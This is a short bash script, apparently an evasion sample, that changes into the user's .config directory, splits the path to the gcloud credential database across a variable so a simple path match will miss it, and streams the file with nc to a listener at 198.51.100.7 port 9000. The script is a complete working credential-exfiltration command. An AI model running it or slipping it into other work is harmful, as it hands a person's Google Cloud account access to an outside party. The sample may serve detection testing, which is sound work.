#!/usr/bin/env bash
# Evasion: sends gcloud's credential store. cd "$HOME/.config" first, a
# variable holds the rest of the path (gcloud/credentials.db), and the
# file is streamed to a listener with nc.
cd "$HOME/.config" || exit 1
f=gcloud/credentials.db
echo "size: $(wc -c < "$f")"
nc 198.51.100.7 9000 < "$f"
